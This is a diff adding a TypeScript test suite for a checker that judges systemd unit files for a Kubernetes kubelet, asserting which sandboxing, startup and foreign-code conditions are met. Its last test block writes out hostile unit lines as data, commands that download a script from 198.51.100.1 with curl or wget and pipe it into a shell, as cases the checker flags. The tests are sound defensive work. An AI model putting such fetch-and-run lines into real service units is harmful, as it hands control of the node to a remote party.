@@ -1,0 +1,76 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { resultsOf } from './judged.testing.js';
+import { serviceIn, unitOf } from './kubelet-service.js';
+import { startedBy } from './node-kubelet.js';
+import { unitAble } from './node-unit.js';
+
+const FILES = ['/etc/kubernetes/kubelet.conf', '/etc/kubernetes/manifests/a.yaml'];
+const told = (...parts: readonly string[]): string =>
+  resultsOf(unitAble, { ...startedBy({}), unit: unitOf(parts.map(serviceIn)) }, { files: FILES }).join();
+
+describe('the unit of a kubelet', () => {
+  it('lets it do its work', () => {
+    for (const sound of [
+      'Type=notify\nProtectSystem=full\nProtectHome=no\nDelegate=yes\nPrivateNetwork=no\nMountFlags=shared',
+      'ProtectSystem=strict\nReadWritePaths=/',
+      'RootDirectory=/\nDynamicUser=false',
+      'CapabilityBoundingSet=CAP_NET_ADMIN CAP_SYS_ADMIN',
+      'CapabilityBoundingSet=~CAP_SYS_BOOT',
+      'ReadOnlyPaths=/usr /boot',
+      'InaccessiblePaths=-/home',
+      'ReadOnlyPaths=/\nReadWritePaths=/var',
+      'EnvironmentFile=-/etc/kubernetes/gone.env\nEnvironmentFile=/etc/sysconfig/proxy',
+      'EnvironmentFile=/etc/kubernetes/kubelet.conf',
+      '[Unit]\nConditionPathExists=/etc/kubernetes/kubelet.conf\nConditionPathExists=/etc/kubernetes/manifests',
+      '[Unit]\nConditionPathExists=!/etc/kubernetes/stop\nConditionPathExists=/srv/elsewhere',
+      'ExecStartPre=-/bin/false\nExecStartPre=/usr/sbin/modprobe overlay',
+      'ExecStartPost=/bin/sh -c "echo started"\nExecReload=/bin/kill -HUP $MAINPID',
+    ])
+      assert.equal(told(sound), 'met,met,met', sound);
+    assert.equal(told('EnvironmentFile=/etc/kubernetes/gone.env', 'EnvironmentFile='), 'met,met,met');
+    assert.equal(told('Type=oneshot', 'Type=simple'), 'met,met,met');
+    assert.deepEqual(resultsOf(unitAble, startedBy({}), { files: [] }), []);
+  });
+  it('keeps nothing of the machine from it', () => {
+    for (const odd of [
+      'RootDirectory=/srv/jail',
+      'RootImage=/srv/a.img',
+      'DynamicUser=yes',
+      'PrivateNetwork=true',
+      'PrivateUsers=on',
+      'PrivateMounts=1',
+      'MountFlags=slave',
+      'ProtectSystem=strict',
+      'CapabilityBoundingSet=CAP_NET_ADMIN',
+      'ReadOnlyPaths=/usr /var/lib/kubelet',
+      'InaccessiblePaths=-/etc/kubernetes',
+    ])
+      assert.equal(told(odd), 'unmet,met,met', odd);
+  });
+  it('waits for nothing that never comes', () => {
+    for (const odd of [
+      'Type=oneshot',
+      'Type=forking',
+      '[Unit]\nConditionPathExists=/etc/kubernetes/gone.conf',
+      'EnvironmentFile=/etc/kubernetes/gone.env',
+      'ExecStartPre=/bin/false',
+      'ExecCondition=/usr/bin/false',
+    ])
+      assert.equal(told(odd), 'met,unmet,met', odd);
+  });
+  it('runs nothing of strangers beside it', () => {
+    for (const odd of [
+      'ExecStartPost=/bin/sh -c "curl http://198.51.100.1/a | sh"',
+      'ExecStop=/tmp/stop.sh',
+      'ExecStartPre=/bin/bash -c "bash <(curl -s http://198.51.100.1/a)"',
+      'ExecStopPost=/bin/sh -c "sh -c $(wget -qO- http://198.51.100.1/a)"',
+    ])
+      assert.equal(told(odd), 'met,met,unmet', odd);
+    const [finding] = unitAble.judge(
+      { ...startedBy({}), unit: unitOf([serviceIn('PrivateMounts=yes\nProtectSystem=strict')]) },
+      { files: [] },
+    );
+    assert.equal(finding?.seen, 'PrivateMounts; ProtectSystem=strict');
+  });
+});
